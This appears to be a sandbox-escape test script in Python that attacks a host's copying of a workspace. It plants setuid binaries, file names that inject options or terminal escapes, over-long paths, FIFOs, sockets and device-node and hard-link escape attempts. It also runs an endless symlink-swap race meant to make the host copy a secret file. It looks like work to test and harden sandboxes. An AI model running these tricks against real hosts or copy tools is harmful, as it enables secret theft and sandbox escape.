"""Runs inside a sandbox, standard library only: `python hostile_files.py swap|plant SECRET`, in /workspace.

`plant` leaves everything in a workspace that could break whoever goes through it. `swap` exchanges files and folders
for links to the host's and back, for ever.
"""

import contextlib
import os
import shutil
import socket
import sys
import time
from pathlib import Path

MODEL = Path("/model")
DEEP, NAME = 60, "n" * 200
"""Folders in each other: 12,000 bytes of path, where the kernel takes 4096."""


def bury(top: Path) -> None:
    home = os.getcwd()
    os.chdir(top)
    for _ in range(DEEP):
        os.mkdir(NAME)
        os.chdir(NAME)
    Path("buried.py").write_text("deep = True\n")
    os.chdir(home)


def plant() -> None:
    for name in ("bits", "bytes", "deep", "hard", "special"):
        shutil.copytree(MODEL, name)
    Path("code").mkdir(exist_ok=True)
    for folder in (Path("bits"), Path("code")):
        (folder / "tool").write_text("#!/bin/sh\nid\n")
        (folder / "tool").chmod(0o6755)
        folder.chmod(0o2775)
    Path("bits/model.safetensors").chmod(0o4777)
    for raw in (b"bytes", b"code"):
        for odd in (b"\xff\xfe.py", b"new\nline.py", b"-rf", b"\xed\xa0\x80.json", b"\x1b[2J.txt", b"x" * 255):
            with open(raw + b"/" + odd, "w") as file:
                file.write("x = 1\n")
    for top in (Path("deep"), Path("code")):
        bury(top)
    os.link("hard/config.json", "hard/again.json")
    for place in ("special", "code"):
        os.mkfifo(f"{place}/pipe.py")
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(f"{place}/socket.py")
    for number, make in enumerate((lambda: os.mknod("special/node", 0o20666, os.makedev(1, 3)), hard_link)):
        with contextlib.suppress(OSError):
            make()
            print("ESCAPED", number, flush=True)
    closed = Path("code/closed")
    closed.mkdir()
    (closed / "hidden.py").write_text("hidden = True\n")
    closed.chmod(0)
    print("planted", flush=True)


def hard_link() -> None:
    """To a file that may only be read."""
    os.link(MODEL / "config.json", "hard/linked.json")


def swap(secret: str) -> None:
    shutil.copytree(MODEL, "out")
    (Path("code") / "sub").mkdir(parents=True)
    for file in ("code/a.py", "code/sub/b.py"):
        Path(file).write_text("honest = True\n")
    print("swapping", flush=True)
    rounds = 0
    while True:
        for file in ("out/config.json", "out/model.safetensors", "code/a.py", "code/sub/b.py"):
            shutil.copyfile(file, "kept")
            os.symlink(secret, "link")
            os.rename("link", file)
            os.rename("kept", file)
        for folder in ("out", "code/sub"):
            os.rename(folder, "away")
            os.symlink(os.path.dirname(secret), folder)
            os.unlink(folder)
            os.rename("away", folder)
        rounds += 1
        # Now and then everything is as it should be, so that the host gets as far as copying.
        time.sleep(0.2 if rounds % 20 == 0 else 0)


if __name__ == "__main__":
    if sys.argv[1] == "plant":
        plant()
    else:
        swap(sys.argv[2])
